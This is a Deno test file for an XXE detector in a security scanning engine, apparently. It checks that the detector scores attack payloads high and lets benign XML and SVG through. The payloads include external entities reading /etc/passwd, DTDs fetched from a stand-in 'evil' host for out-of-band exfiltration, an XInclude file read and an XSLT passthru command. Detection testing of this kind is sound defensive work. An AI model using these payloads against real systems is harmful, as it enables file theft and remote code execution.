import assert from "node:assert/strict";
import { xxe } from "../../engine/xxe.ts";
import { engineInput } from "../_helpers/engine_input.ts";

const score = (text: string) => xxe(engineInput(text, { source: "xml", name: "" }))?.score ?? 0;

Deno.test("xxe() catches external and parameter entities", () => {
  assert.ok(
    score('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>') >= 90,
  );
  assert.ok(score('<!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://evil/x.dtd">%dtd;]>') >= 90);
  assert.ok(score('<!DOCTYPE data SYSTEM "http://evil/oob.dtd"><data>&send;</data>') >= 70);
});

Deno.test("xxe() catches XInclude and XSLT that runs code", () => {
  assert.ok(
    score(
      '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>',
    ) >= 90,
  );
  assert.ok(score("<xsl:value-of select=\"php:function('passthru','ls')\"/>") >= 90);
});

Deno.test("xxe() passes XML without a DTD", () => {
  assert.equal(
    xxe(engineInput('<?xml version="1.0"?><soap:Envelope><a>1</a></soap:Envelope>')),
    undefined,
  );
  assert.equal(
    xxe(engineInput('<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>')),
    undefined,
  );
});
